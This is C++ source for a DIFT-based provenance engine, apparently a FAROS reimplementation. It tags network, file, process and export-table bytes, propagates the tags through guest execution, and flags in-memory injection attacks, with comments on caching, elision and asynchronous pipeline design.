    bt_guard_fail_.inc();
    return false;
  }
  u32 tainted_insns = block_tainted_fetches(cr3, start_pa, count);
  if (tainted_insns != 0 && rule_engine_.has_rules(Trigger::kTaintedFetch)) {
    // Bound fetch rules need per-instruction events; the writebacks the
    // walk just performed are idempotent, so the instrumented re-walk is
    // identical.
    bt_guard_fail_.inc();
    return false;
  }
  stats_.insns_seen += count;
  stats_.tainted_fetches += tainted_insns;
  stats_.elided_insns += count;
  bt_elided_.inc();
  return true;
}

// Consumer half of a kBulk record. The producer approves elision only when
// its conservative filter proves the register bank clean AND (no fetch
// rules are bound, or the block's frame was never maybe-tainted) — both
// strictly stronger than the dynamic guard above, so accounting here can
// never face the "would have declined" case. The walk still runs so the
// memoized one-time writebacks and the tainted-fetch stat stay identical
// to what try_elide_block would have produced.
void FarosEngine::account_elided(PAddr cr3, PAddr start_pa, u32 count) {
  u32 tainted_insns = block_tainted_fetches(cr3, start_pa, count);
  stats_.insns_seen += count;
  stats_.tainted_fetches += tainted_insns;
  stats_.elided_insns += count;
}

void FarosEngine::set_window(PAddr cr3, VAddr pc, VAddr code_base,
                             Bytes bytes) {
  windows_[{cr3, pc}] = {code_base, std::move(bytes)};
}

// Static summary hint check (vm/cpu.h). A hint is trusted only when the
// freshly translated instruction sequence matches its recorded length and
// content hash, so a proof can never be applied to bytes that changed
// since analysis (SMC, image aliasing across processes). This only grants
// *eligibility*; try_elide_block above still runs its dynamic guard per
// dispatch, which is why hint-approved blocks keep detection bit-identical:
// a hinted body runs only inert opcodes plus kDivu sites whose divisor the
// analyzer proved a non-zero constant from the run's own prefix, so with a
// clean bank it can neither move taint, trap, nor fire any trigger except
// the tainted-fetch path try_elide_block already accounts for.
bool FarosEngine::block_elide_hint(PAddr cr3, VAddr pc,
                                   const vm::Instruction* insns, u32 count) {
  (void)cr3;
  if (!opts_.summary_elide || opts_.elide_hints.empty()) return false;
  auto it = opts_.elide_hints.find(pc);
  if (it == opts_.elide_hints.end()) return false;
  for (const auto& [n, hash] : it->second) {
    if (n == count && vm::insn_seq_hash(insns, count) == hash) {
      bt_hint_.inc();
      return true;
    }
  }
  return false;
}

void FarosEngine::run_trigger(Trigger t, const vm::DiftEvent& d,
                              const RuleInputs& in) {
  stats_.policy_evals += rule_engine_.dispatch(t, store_, in, matched_);
  for (u32 idx : matched_) record_finding(idx, d, in);
}

void FarosEngine::record_finding(u32 rule_idx, const vm::DiftEvent& d,
                                 const RuleInputs& in) {
  auto site = std::make_tuple(static_cast<PAddr>(d.cr3),
                              static_cast<VAddr>(d.pc), rule_idx);
  if (flagged_sites_.count(site) != 0) return;
  // At the cap the site is deliberately NOT marked: the cap bounds what is
  // recorded, never which sites are eligible.
  if (findings_.size() >= opts_.max_findings) return;

  Finding f;
  f.policy = rule_engine_.rule_id(rule_idx);
  f.instr_index = d.instr_index;
  // Process identity. The event-sourced map is populated by
  // on_process_start and erased at exit, so a hit carries exactly what an
  // alive-only OSI query would return — and findings only fire while the
  // flagged process is executing, i.e. alive. The direct OSI query remains
  // for synchronous monitor-less use (unit tests driving the hook by hand);
  // the consumer thread must never query the kernel, which the producer
  // thread is mutating.
  auto pit = proc_info_map_.find(d.cr3);
  if (pit != proc_info_map_.end()) {
    f.proc = pit->second;
  } else if (live_as_) {
    if (auto info = osi_.process_by_cr3(d.cr3)) {
      f.proc = *info;
    } else {
      f.proc.cr3 = d.cr3;
      f.proc.name = "<unknown>";
    }
  } else {
    f.proc.cr3 = d.cr3;
    f.proc.name = "<unknown>";
  }
  f.insn_va = d.pc;
  f.insn_pa = d.pc_pa;
  vm::Instruction insn{static_cast<Opcode>(d.op), d.rd, d.rs1, d.rs2, d.imm};
  f.disasm = vm::disassemble(insn);
  f.target_va = (d.flags & vm::DiftEvent::kHasMem) ? d.mem_va : 0;
  f.fetch_prov = in.fetch;
  f.target_prov = in.target;
  f.whitelisted = opts_.whitelist.count(f.proc.name) != 0;
  f.warn_only = rule_engine_.rule_action(rule_idx) == RuleAction::kWarn;
  // Snapshot the code around the flagged pc now: a transient payload may
  // wipe itself before the analyst ever looks. In async mode the snapshot
  // was taken by the producer at retirement time (the same machine moment
  // this call observes) and stashed via set_window.
  constexpr u32 kBefore = 4 * vm::kInsnSize;
  constexpr u32 kAfter = 8 * vm::kInsnSize;
  f.code_base = d.pc >= kBefore ? d.pc - kBefore : 0;
  if (live_as_) {
    Bytes window(kBefore + kAfter);
    if (live_as_->copy_out(f.code_base, window, /*user=*/false).ok()) {
      f.code_window = std::move(window);
    } else {
      // Window ran off the mapped region; fall back to just the insn.
      Bytes small(vm::kInsnSize);
      if (live_as_->copy_out(d.pc, small, /*user=*/false).ok()) {
        f.code_base = d.pc;
        f.code_window = std::move(small);
      }
    }
  } else {
    auto wit = windows_.find({static_cast<PAddr>(d.cr3),
                              static_cast<VAddr>(d.pc)});
    if (wit != windows_.end()) {
      f.code_base = wit->second.first;
      f.code_window = wit->second.second;
    }
    // A miss means the producer's capture filter missed a finding site;
    // the filter is a conservative superset, so this cannot happen — but
    // degrade to the historical unmapped-window shape rather than crash.
  }
  findings_.push_back(std::move(f));
  flagged_sites_.insert(site);
}

// ---------------------------------------------------------------------------
// Tag insertion (semantic events from the introspection layer).

namespace {
/// Per-byte iteration over a guest transfer; calls fn(offset, paddr).
template <typename Fn>
void for_each_byte(const osi::GuestXfer& xfer, Fn&& fn) {
  for (u32 i = 0; i < xfer.len; ++i) {
    auto pa = xfer.as->translate(xfer.va + i, AccessType::kRead, false);
    if (pa) fn(i, *pa);
  }
}
}  // namespace

void FarosEngine::on_process_start(const osi::ProcessInfo& p) {
  ptag_cache_[p.cr3] = maps_.process.intern(p.cr3, p.pid, p.name);
  if (last_ptag_cr3_ == p.cr3) last_ptag_valid_ = false;
  proc_info_map_[p.cr3] = p;
}

void FarosEngine::on_process_exit(const osi::ProcessInfo& p, u32 exit_code) {
  (void)exit_code;
  if (sregs_cached_ && sregs_cr3_ == p.cr3) sregs_cached_ = nullptr;
  regs_.erase(p.cr3);
  // CR3 values can be recycled by later processes; drop the cache bindings
  // (ProcessMap keeps the historical entry for report rendering).
  ptag_cache_.erase(p.cr3);
  if (last_ptag_cr3_ == p.cr3) last_ptag_valid_ = false;
  proc_info_map_.erase(p.cr3);
  // A later process may reuse this CR3: drop its fetch-provenance entries
  // so the recycled identity never inherits the old process's results.
  for (FetchCacheEntry& e : fetch_cache_) {
    if (e.cr3 == p.cr3) e = FetchCacheEntry{};
  }
  for (BlockMemoEntry& e : block_memo_) {
    if (e.cr3 == p.cr3) e = BlockMemoEntry{};
  }
}

void FarosEngine::on_module_loaded(const osi::ModuleInfo& mod,
                                   const vm::AddressSpace& kernel_as) {
  if (!opts_.track_export) return;
  taint_src_events_.inc();
  export_tag_bytes_.inc(static_cast<u64>(mod.export_count) * 4);
  // Taint the function-pointer field of every export entry: layout is
  // [count][hash u32, addr u32]*count; the addr bytes get the tag.
  ProvListId id = store_.intern({ProvTag::export_table()});
  for (u32 i = 0; i < mod.export_count; ++i) {
    VAddr addr_field = mod.exports_va + 4 + i * 8 + 4;
    for (u32 b = 0; b < 4; ++b) {
      auto pa = kernel_as.translate(addr_field + b, AccessType::kRead, false);
      if (pa) shadow_.set(*pa, id);
    }
  }
}

void FarosEngine::on_packet_to_guest(const osi::GuestXfer& xfer,
                                     const FlowTuple& flow,
                                     const osi::PacketMeta& meta) {
  taint_src_events_.inc();
  netflow_src_bytes_.inc(xfer.len);
  ProvListId fresh = kEmptyProv;
  ProvTag nf_tag = ProvTag::netflow(0);
  if (opts_.track_netflow) {
    nf_tag = ProvTag::netflow(maps_.netflow.intern(flow));
    fresh = store_.intern({nf_tag});
    fresh = with_process(fresh, xfer.proc.cr3, false);
  }
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    // Loopback segments carry the sender-side provenance: the chain keeps
    // running through the network stack (whole-system tracking).
    ProvListId base = meta.segment_id
                          ? segment_shadow_.get(meta.segment_id,
                                                meta.segment_off + i)
                          : kEmptyProv;
    if (base != kEmptyProv) {
      ProvListId id = base;
      if (opts_.track_netflow) id = store_.append(id, nf_tag);
      id = with_process(id, xfer.proc.cr3, false);
      shadow_.set(pa, id);
    } else {
      shadow_.set(pa, fresh);
    }
  });
}

void FarosEngine::on_guest_send(const osi::GuestXfer& xfer,
                                const FlowTuple& flow,
                                const osi::PacketMeta& meta) {
  (void)flow;
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    ProvListId id = shadow_.get(pa);
    if (id != kEmptyProv) {
      id = with_process(id, xfer.proc.cr3, false);
      shadow_.set(pa, id);
    }
    // Attach the source provenance to the in-flight segment so a loopback
    // receiver inherits it.
    if (meta.loopback && meta.segment_id) {
      segment_shadow_.set(meta.segment_id, i, id);
    }
  });
}

void FarosEngine::on_file_read(const osi::GuestXfer& xfer, u32 file_id,
                               const std::string& path, u32 version,
                               u32 file_offset) {
  taint_src_events_.inc();
  file_read_src_bytes_.inc(xfer.len);
  ProvTag ftag = ProvTag::file(maps_.file.intern(file_id, version, path));
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    ProvListId id = file_shadow_.get(file_id, file_offset + i);
    if (opts_.track_file) id = store_.append(id, ftag);
    id = with_process(id, xfer.proc.cr3, false);
    shadow_.set(pa, id);
  });
}

void FarosEngine::on_file_write(const osi::GuestXfer& xfer, u32 file_id,
                                const std::string& path, u32 version,
                                u32 file_offset) {
  taint_src_events_.inc();
  file_write_src_bytes_.inc(xfer.len);
  ProvTag ftag = ProvTag::file(maps_.file.intern(file_id, version, path));
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    ProvListId id = shadow_.get(pa);
    if (opts_.track_file) {
      // The paper taints the written buffer with the file tag (the byte is
      // now also "in" the file); chronology: process, then file.
      id = with_process(id, xfer.proc.cr3, true);
      id = store_.append(id, ftag);
      shadow_.set(pa, id);
    } else if (id != kEmptyProv) {
      id = with_process(id, xfer.proc.cr3, false);
      shadow_.set(pa, id);
    }
    file_shadow_.set(file_id, file_offset + i, id);
  });
}

void FarosEngine::on_image_mapped(const osi::ProcessInfo& proc,
                                  const vm::AddressSpace& as, VAddr base,
                                  u32 len, u32 file_id,
                                  const std::string& path, u32 version) {
  if (!opts_.track_file || !opts_.taint_mapped_images) return;
  taint_src_events_.inc();
  image_map_src_bytes_.inc(len);
  ProvTag ftag = ProvTag::file(maps_.file.intern(file_id, version, path));
  ProvListId plain = store_.intern({ftag});
  plain = with_process(plain, proc.cr3, true);
  for (u32 i = 0; i < len; ++i) {
    auto pa = as.translate(base + i, AccessType::kRead, false);
    if (!pa) continue;
    // Bytes that reached this file from elsewhere (e.g. a dropper writing
    // a downloaded stage-2 binary) keep their history: merge the file
    // shadow so a netflow origin survives the round trip through disk.
    ProvListId base_prov = file_shadow_.get(file_id, i);
    ProvListId id = plain;
    if (base_prov != kEmptyProv) {
      id = store_.append(base_prov, ftag);
      id = with_process(id, proc.cr3, true);
    }
    shadow_.set(*pa, id);
  }
}

void FarosEngine::on_iat_resolved(const osi::ProcessInfo& proc,
                                  const vm::AddressSpace& as, VAddr slot_va) {
  (void)proc;
  if (!opts_.track_export) return;
  taint_src_events_.inc();
  export_tag_bytes_.inc(4);
  // The slot's value is derived from export-table data: append the export
  // tag on top of whatever provenance the slot bytes already carry (e.g.
  // the image's file tag), so IAT-scanning payloads hit the confluence too.
  for (u32 b = 0; b < 4; ++b) {
    auto pa = as.translate(slot_va + b, AccessType::kRead, false);
    if (!pa) continue;
    shadow_.set(*pa, store_.append(shadow_.get(*pa), ProvTag::export_table()));
  }
}

void FarosEngine::on_cross_process_write(const osi::GuestXfer& src,
                                         const osi::GuestXfer& dst) {
  for (u32 i = 0; i < src.len && i < dst.len; ++i) {
    auto spa = src.as->translate(src.va + i, AccessType::kRead, false);
    auto dpa = dst.as->translate(dst.va + i, AccessType::kRead, false);
    if (!dpa) continue;
    ProvListId id = spa ? shadow_.get(*spa) : kEmptyProv;
    if (id != kEmptyProv) {
      // The source process accessed the byte; record it, then copy.
      id = with_process(id, src.proc.cr3, false);
      if (spa) shadow_.set(*spa, id);
    }
    shadow_.set(*dpa, id);
  }
}

void FarosEngine::on_atom_write(const osi::GuestXfer& xfer, u32 atom_id) {
  // The atom table is kernel-resident storage: like the file shadow, it
  // carries provenance so atom-bombing-style payload staging is tracked.
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    ProvListId id = shadow_.get(pa);
    if (id != kEmptyProv) {
      id = with_process(id, xfer.proc.cr3, false);
      shadow_.set(pa, id);
    }
    atom_shadow_.set(atom_id, i, id);
  });
}

void FarosEngine::on_atom_read(const osi::GuestXfer& xfer, u32 atom_id) {
  for_each_byte(xfer, [&](u32 i, PAddr pa) {
    ProvListId id = atom_shadow_.get(atom_id, i);
    id = with_process(id, xfer.proc.cr3, false);
    shadow_.set(pa, id);
  });
}

void FarosEngine::on_kernel_write(const osi::GuestXfer& xfer) {
  clear_xfer(xfer);
}

void FarosEngine::clear_xfer(const osi::GuestXfer& xfer) {
  for_each_byte(xfer, [&](u32, PAddr pa) { shadow_.set(pa, kEmptyProv); });
}

void FarosEngine::on_frame_recycled(PAddr frame_base) {
  shadow_.clear_range(frame_base, vm::kPageSize);
}

// ---------------------------------------------------------------------------

std::vector<Finding> FarosEngine::active_findings() const {
  std::vector<Finding> out;
  for (const Finding& f : findings_) {
    if (!f.whitelisted) out.push_back(f);
  }
  return out;
}

bool FarosEngine::flagged() const {
  for (const Finding& f : findings_) {
    if (!f.whitelisted && !f.warn_only) return true;
  }
  return false;
}

std::string FarosEngine::report() const {
  return render_findings_table(findings_, store_, maps_);
}

ProvListId FarosEngine::prov_at(const vm::AddressSpace& as, VAddr va) const {
  auto pa = as.translate(va, AccessType::kRead, false);
  return pa ? shadow_.get(*pa) : kEmptyProv;
}

obs::MetricSnapshot FarosEngine::metrics_snapshot() const {
  if (!metrics_) return {};
  obs::MetricSnapshot s = metrics_->snapshot();
  auto put = [&s](obs::Ctr c, u64 v) {
    s.counters[static_cast<u32>(c)] = v;
  };
  put(obs::Ctr::kInsnsRetired, stats_.insns_seen);
  put(obs::Ctr::kLoads, stats_.loads);
  put(obs::Ctr::kStores, stats_.stores);
  put(obs::Ctr::kTaintedFetches, stats_.tainted_fetches);
  put(obs::Ctr::kPolicyEvals, stats_.policy_evals);
  put(obs::Ctr::kBtElidedInsns, stats_.elided_insns);
  return s;
}

}  // namespace faros::core
