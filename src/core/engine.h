// FarosEngine — the paper's contribution, assembled: a whole-system
// DIFT-provenance plugin that attaches to the Machine as both an
// instruction-level hook (vm::ExecHooks, for Table-I propagation) and a
// semantic-event monitor (osi::GuestMonitor, for tag insertion), and flags
// in-memory injection attacks via tag-confluence policies.
//
// Tag insertion (paper Section V-A):
//  * packet delivered into a guest buffer  -> netflow tag (+ process tag)
//  * file bytes loaded into memory         -> file tag (name + version)
//  * buffer written into a file            -> file tag on the buffer,
//                                             provenance persisted per byte
//                                             in the file shadow
//  * image mapped from the VFS             -> file tag over the image
//  * module export table materialised      -> export-table tag over the
//                                             function-pointer bytes
//  * process touches a tainted byte (fetch, load, store, syscall buffer)
//                                          -> that process' tag appended
//
// Propagation (paper Table I): copy for MOV/LD/ST, union for arithmetic,
// delete for constants/zero idioms. Address/control dependencies are NOT
// globally propagated — that is the paper's core design decision; an
// optional address-dependency mode exists for the overtainting ablation.
#pragma once

#include <map>
#include <memory>
#include <set>
#include <string>
#include <tuple>
#include <unordered_map>
#include <vector>

#include "core/policy.h"
#include "core/report.h"
#include "core/rules.h"
#include "core/shadow.h"
#include "introspection/monitor.h"
#include "obs/obs.h"
#include "os/kernel.h"
#include "vm/cpu.h"
#include "vm/trace_ring.h"

namespace faros::core {

struct Options {
  // Tag-type toggles (ablation bench disables one at a time).
  bool track_netflow = true;
  bool track_file = true;
  bool track_process = true;
  bool track_export = true;
  /// Taint image bytes with the backing file's tag when mapped.
  bool taint_mapped_images = true;

  /// Propagate through address dependencies (table lookups). Off by
  /// default, as in the paper; enabling demonstrates overtainting.
  bool propagate_address_deps = false;

  /// Approve uninstrumented execution of cached taint-inert blocks
  /// (vm::ExecHooks::try_elide_block). Detection is bit-identical either
  /// way; off forces the fully instrumented path (--no-block-cache sets
  /// this and the machine-side cache toggle together).
  bool block_cache = true;

  /// Accept static summary elide hints (vm::ExecHooks::block_elide_hint):
  /// blocks the analyzer proved safe beyond per-opcode inertness (e.g.
  /// constant-divisor kDivu) become elision-eligible when their translated
  /// bytes match a hint's content hash. Detection is bit-identical either
  /// way (--no-summary-elide forces the per-opcode-inert-only baseline).
  bool summary_elide = true;
  /// The hints themselves, keyed by block start va: (insn count, content
  /// hash) pairs from sa::ImageReport::elide_hints. Several images of one
  /// job may alias a va; the hash picks the right proof or none. Empty
  /// means no hint ever matches.
  std::map<VAddr, std::vector<std::pair<u32, u64>>> elide_hints;

  /// Statically-proven-unreachable rule triggers (policy-aware pruning),
  /// bit `static_cast<u32>(Trigger)` per trigger — handed straight to
  /// RuleEngine::set_static_mask (which refuses the kTaintedFetch bit).
  /// 0 (the default) prunes nothing. The farm fills this from the
  /// per-image sa trigger masks when --static-prune is on; detection and
  /// the per-rule eval counters are bit-identical either way, which the
  /// prune-on/off CI gate enforces.
  u8 static_trigger_mask = 0;

  /// Built-in policies (ignored when `rules` is non-empty).
  bool policy_netflow_export = true;
  bool policy_cross_process_export = true;
  /// Optional early-warning policy: flag when *netflow-tainted bytes are
  /// written into an executable page* — fires at staging time, before the
  /// payload ever runs. Off by default: it predates the paper's invariant
  /// and would flag every JIT host (trading the 2% FP rate for earlier
  /// alerts); see bench_evasion / tests for the trade-off.
  bool policy_tainted_code_write = false;

  /// Declarative ruleset (core/rules.h). Empty: the engine runs the
  /// built-ins selected by the policy_* toggles above — bit-identical to
  /// the historical hardcoded behaviour. Non-empty (e.g. parsed from a
  /// --policies file): these specs *replace* the built-ins entirely.
  std::vector<RuleSpec> rules;

  /// Analyst whitelist: findings in these processes are recorded but
  /// marked suppressed (the paper's JIT whitelisting).
  std::set<std::string> whitelist;

  u32 prov_list_cap = 64;
  /// Exhaustion-attack guard: bound on distinct interned provenance lists
  /// (Section VI-D); past it the store degrades gracefully.
  u32 prov_store_max_lists = 1u << 22;
  u32 max_findings = 256;

  /// Own a MetricSink and bind the shadow/store/engine counters to it.
  /// Off, every counter handle is null and the hot-path cost is one
  /// predicted branch per increment site (see src/obs/obs.h).
  bool collect_metrics = true;
};

struct EngineStats {
  u64 insns_seen = 0;
  u64 loads = 0;
  u64 stores = 0;
  u64 tainted_fetches = 0;
  u64 export_table_reads = 0;  // loads that touched export-tagged bytes
  u64 policy_evals = 0;
  /// Instructions covered by approved block elisions (inert and
  /// hint-proven alike); subset of insns_seen.
  u64 elided_insns = 0;
};

class FarosEngine : public vm::ExecHooks, public osi::GuestMonitor {
 public:
  /// `osi` resolves CR3 values to processes (PANDA OSI analogue).
  explicit FarosEngine(const os::OsiQuery& osi, Options opts = {});

  // --- attach both halves to a Machine ---
  // machine.attach_cpu_plugin(&engine); machine.add_monitor(&engine);

  // vm::ExecHooks
  void on_insn_retired(const vm::InsnEvent& ev,
                       const vm::AddressSpace& as) override;
  bool try_elide_block(PAddr cr3, VAddr pc, PAddr start_pa,
                       const vm::Instruction* insns, u32 count) override;
  bool block_elide_hint(PAddr cr3, VAddr pc, const vm::Instruction* insns,
                        u32 count) override;

  // --- decoupled-pipeline consumer surface (core/pipeline.h) ---
  // Both execution modes funnel through propagate(): the synchronous hook
  // above resolves the InsnEvent into a trace record and calls it inline
  // (with the live address space available for lazy page-flag reads and
  // finding-window capture); the async pipeline calls it from a consumer
  // thread with everything pre-resolved into the record. Table-I
  // propagation is therefore one code path, byte-identical either way.

  /// Replays one instruction record against shadow state and the rules.
  /// Thread contract: in async use, only the consumer thread calls this,
  /// and the producer touches the engine only while the ring is drained.
  void propagate(const vm::DiftEvent& d);
  /// Accounts a producer-approved elided inert block (the consumer half of
  /// a kBulk record): runs the same block-level fetch walk try_elide_block
  /// runs, so stats and one-time tag writebacks stay identical. Never
  /// declines — the producer's approval rule is strictly stronger than the
  /// guard here (see core/pipeline.h).
  void account_elided(PAddr cr3, PAddr start_pa, u32 count);
  /// Stores the producer-captured code window for a (cr3, pc) site, used
  /// by record_finding when no live address space is available.
  void set_window(PAddr cr3, VAddr pc, VAddr code_base, Bytes bytes);

  // osi::GuestMonitor
  void on_process_start(const osi::ProcessInfo& p) override;
  void on_process_exit(const osi::ProcessInfo& p, u32 exit_code) override;
  void on_module_loaded(const osi::ModuleInfo& mod,
                        const vm::AddressSpace& kernel_as) override;
  void on_packet_to_guest(const osi::GuestXfer& xfer, const FlowTuple& flow,
                          const osi::PacketMeta& meta = {}) override;
  void on_guest_send(const osi::GuestXfer& xfer, const FlowTuple& flow,
                     const osi::PacketMeta& meta = {}) override;
  void on_file_read(const osi::GuestXfer& xfer, u32 file_id,
                    const std::string& path, u32 version,
                    u32 file_offset) override;
  void on_file_write(const osi::GuestXfer& xfer, u32 file_id,
                     const std::string& path, u32 version,
                     u32 file_offset) override;
  void on_image_mapped(const osi::ProcessInfo& proc,
                       const vm::AddressSpace& as, VAddr base, u32 len,
                       u32 file_id, const std::string& path,
                       u32 version) override;
  void on_iat_resolved(const osi::ProcessInfo& proc,
                       const vm::AddressSpace& as, VAddr slot_va) override;
  void on_cross_process_write(const osi::GuestXfer& src,
                              const osi::GuestXfer& dst) override;
  void on_atom_write(const osi::GuestXfer& xfer, u32 atom_id) override;
  void on_atom_read(const osi::GuestXfer& xfer, u32 atom_id) override;
  void on_kernel_write(const osi::GuestXfer& xfer) override;
  void on_frame_recycled(PAddr frame_base) override;

  // --- policies ---
  /// Host-code escape hatch: evaluated at tainted-load, action=flag (the
  /// pre-rules contract). Prefer Options::rules for anything the predicate
  /// grammar can express.
  void add_policy(std::unique_ptr<FlagPolicy> policy);
  size_t policy_count() const { return rule_engine_.rule_count(); }
  /// The compiled ruleset (ids, per-rule eval/hit counts) — what the farm
  /// serialises per job and --list-policies prints.
  const RuleEngine& rule_engine() const { return rule_engine_; }

  // --- results ---
  const std::vector<Finding>& findings() const { return findings_; }
  /// Findings not suppressed by the whitelist.
  std::vector<Finding> active_findings() const;
  bool flagged() const;

  /// Table II-style report over all findings.
  std::string report() const;

  // --- introspection for tests/benches ---
  const ProvStore& store() const { return store_; }
  const TagMaps& maps() const { return maps_; }
  const ShadowMemory& shadow() const { return shadow_; }
  const FileShadow& file_shadow() const { return file_shadow_; }
  const EngineStats& stats() const { return stats_; }
  const Options& options() const { return opts_; }

  /// The engine's metric sink (null when collect_metrics is off). Exposed
  /// so the farm can add job-phase timers to the same sink.
  obs::MetricSink* metrics() { return metrics_.get(); }
  /// Counter snapshot with the EngineStats totals folded in (kInsnsRetired
  /// etc. live in EngineStats; copying them at snapshot time keeps the
  /// per-insn path free of double bookkeeping). `collected` is false when
  /// metrics are off.
  obs::MetricSnapshot metrics_snapshot() const;

  /// Provenance of a guest virtual address in `as` (analyst query).
  ProvListId prov_at(const vm::AddressSpace& as, VAddr va) const;

 private:
  u16 process_tag_index(PAddr cr3);
  ProvTag process_tag(PAddr cr3) { return ProvTag::process(process_tag_index(cr3)); }

  /// Register-shadow bank for a CR3, with a one-entry cache so the common
  /// run of instructions from one process skips the hash lookup. regs_ is
  /// node-based, so the cached pointer stays valid across inserts; process
  /// exit invalidates it explicitly.
  ShadowRegisters& sregs(PAddr cr3) {
    if (sregs_cached_ && sregs_cr3_ == cr3) return *sregs_cached_;
    ShadowRegisters& r = regs_[cr3];
    sregs_cr3_ = cr3;
    sregs_cached_ = &r;
    return r;
  }

  /// Appends the process tag to a (tainted) list when process tracking is
  /// on; returns the list unchanged otherwise.
  ProvListId with_process(ProvListId id, PAddr cr3, bool even_if_untainted);

  void clear_xfer(const osi::GuestXfer& xfer);

  /// Evaluates the rules bound to `t` and records a Finding per matched
  /// flag/warn rule (deduped on (cr3, pc, rule), capped by max_findings).
  void run_trigger(Trigger t, const vm::DiftEvent& d, const RuleInputs& in);
  void record_finding(u32 rule_idx, const vm::DiftEvent& d,
                      const RuleInputs& in);

  /// Shared block-level fetch walk (try_elide_block and account_elided):
  /// memoized count of tainted-fetch instructions in the block, replaying
  /// the per-insn walk's one-time writebacks on first pass.
  u32 block_tainted_fetches(PAddr cr3, PAddr start_pa, u32 count);

  const os::OsiQuery& osi_;
  Options opts_;
  /// Set for the duration of the synchronous on_insn_retired call; null
  /// when propagate() runs from the async consumer. Discriminates where
  /// page flags, finding windows and process identity come from.
  const vm::AddressSpace* live_as_ = nullptr;
  /// Event-sourced process identity (on_process_start/exit), so findings
  /// resolve names without querying the kernel from a consumer thread.
  /// Erased at exit: a hit is equivalent to an alive-only OSI query.
  std::unordered_map<PAddr, osi::ProcessInfo> proc_info_map_;
  /// Producer-captured code windows keyed (cr3, pc) — record_finding's
  /// async replacement for the live copy_out (set_window).
  std::map<std::pair<PAddr, VAddr>, std::pair<VAddr, Bytes>> windows_;
  ProvStore store_;
  TagMaps maps_;
  ShadowMemory shadow_;
  FileShadow file_shadow_;
  SegmentShadow segment_shadow_;
  SegmentShadow atom_shadow_;  // keyed by atom id
  std::unordered_map<PAddr, ShadowRegisters> regs_;  // keyed by CR3
  PAddr sregs_cr3_ = 0;                     // sregs() one-entry cache
  ShadowRegisters* sregs_cached_ = nullptr;
  std::unordered_map<PAddr, u16> ptag_cache_;
  PAddr last_ptag_cr3_ = 0;  // one-entry front for ptag_cache_
  u16 last_ptag_ = 0;
  bool last_ptag_valid_ = false;

  /// Direct-mapped memo for the fetch-provenance of a (pc_pa, cr3) site,
  /// valid while the containing shadow page's mutation stamp is unchanged.
  /// Steady-state execution from tainted code pages (mapped images) hits
  /// here instead of walking the eight instruction bytes.
  struct FetchCacheEntry {
    PAddr pc_pa = ~0ull;
    PAddr cr3 = 0;
    u64 version = 0;
    ProvListId result = kEmptyProv;
  };
  static constexpr u32 kFetchCacheSize = 4096;  // power of two
  static constexpr u32 kFetchCacheMask = kFetchCacheSize - 1;
  std::vector<FetchCacheEntry> fetch_cache_ =
      std::vector<FetchCacheEntry>(kFetchCacheSize);

  /// Block-level analogue of FetchCacheEntry for elided blocks on *tainted*
  /// code pages: caches the per-block count of tainted-fetch instructions
  /// (what stats_.tainted_fetches needs) against the page's post-writeback
  /// mutation stamp. `count` is part of the validity check because an SMC
  /// retranslation can change the block length without a shadow mutation.
  struct BlockMemoEntry {
    PAddr start_pa = ~0ull;
    PAddr cr3 = 0;
    u64 version = 0;
    u32 count = 0;
    u32 tainted_insns = 0;
  };
  static constexpr u32 kBlockMemoSize = 1024;  // power of two
  static constexpr u32 kBlockMemoMask = kBlockMemoSize - 1;
  std::vector<BlockMemoEntry> block_memo_ =
      std::vector<BlockMemoEntry>(kBlockMemoSize);
  RuleEngine rule_engine_;
  std::vector<u32> matched_;  // dispatch scratch (avoids per-site allocs)
  std::vector<Finding> findings_;
  /// Finding dedup: one record per (cr3, insn va, rule index). CR3 is part
  /// of the key so two processes flagging at the same VA (shared image
  /// bases) each get their own finding. Inserted only when the finding is
  /// actually recorded, so hitting max_findings never poisons a site.
  std::set<std::tuple<PAddr, VAddr, u32>> flagged_sites_;
  EngineStats stats_;

  std::unique_ptr<obs::MetricSink> metrics_;  // null = metrics off
  obs::Counter fetch_hit_;
  obs::Counter fetch_miss_;
  obs::Counter tainted_load_;
  obs::Counter tainted_store_;
  obs::Counter taint_src_events_;
  obs::Counter netflow_src_bytes_;
  obs::Counter file_read_src_bytes_;
  obs::Counter file_write_src_bytes_;
  obs::Counter image_map_src_bytes_;
  obs::Counter export_tag_bytes_;
  obs::Counter bt_elided_;      // inert blocks approved for the fast body
  obs::Counter bt_guard_fail_;  // elision declined (dirty bank / fetch rules)
  obs::Counter bt_hint_;        // blocks hint-approved beyond inertness
};

}  // namespace faros::core
