#include "core/pipeline.h"

#include <algorithm>
#include <cstring>

#include "vm/isa.h"
#include "vm/mmu.h"
#include "vm/phys_mem.h"

namespace faros::core {

using vm::Opcode;

namespace {

constexpr u16 reg_bit(u8 r) { return static_cast<u16>(1u << (r & 15)); }

/// R1..R4 — the syscall argument registers (kSyscallArg subjects).
constexpr u16 kSyscallArgMask = reg_bit(vm::R1) | reg_bit(vm::R2) |
                                reg_bit(vm::R3) | reg_bit(vm::R4);

}  // namespace

// ---------------------------------------------------------------------------
// Construction / teardown.

DiftPipeline::DiftPipeline(const os::Kernel& kernel,
                           std::vector<Options> optss, size_t ring_capacity) {
  if (optss.empty()) optss.emplace_back();
  num_frames_ = kernel.phys_mem().num_frames();
  frame_bits_.assign((num_frames_ + 63) / 64, 0);

  engines_.reserve(optss.size());
  for (Options& o : optss) {
    engines_.push_back(std::make_unique<FarosEngine>(kernel, std::move(o)));
  }

  // Static rule-need bits: the producer's capture/elide decisions must be
  // sound for EVERY consumer, so each bit is the OR across engines.
  for (const auto& e : engines_) {
    const RuleEngine& re = e->rule_engine();
    fetch_rules_ |= re.has_rules(Trigger::kTaintedFetch);
    load_rules_ |= re.has_rules(Trigger::kTaintedLoad);
    store_rules_ |= re.has_rules(Trigger::kTaintedStore) ||
                    re.has_rules(Trigger::kExecPageWrite);
    syscall_rules_ |= re.has_rules(Trigger::kSyscallArg);
    need_page_exec_ |= re.has_rules(Trigger::kExecPageWrite) ||
                       re.needs_page_flags(Trigger::kTaintedStore);
    addr_deps_ |= e->options().propagate_address_deps;
  }
  const Options& primary = engines_[0]->options();
  block_cache_ = primary.block_cache;
  summary_elide_ = primary.summary_elide;
  elide_hints_ = &primary.elide_hints;

  if (primary.collect_metrics) {
    producer_sink_ = std::make_unique<obs::MetricSink>();
